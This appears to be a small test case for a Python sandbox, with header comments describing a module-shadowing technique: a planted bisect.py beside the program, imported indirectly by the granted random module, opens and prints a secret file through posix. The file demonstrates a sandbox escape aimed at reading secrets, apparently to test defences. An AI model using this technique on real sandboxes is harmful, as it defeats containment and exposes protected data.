# technique: pprint, dataclasses, random... are granted: their other imports are looked for beside the program first
# goal: read-secret
# source: sys.path[0]
# beside: bisect.py import posix; print(posix.read(posix.open('@SECRET@', 0), 200), flush=True)
import random
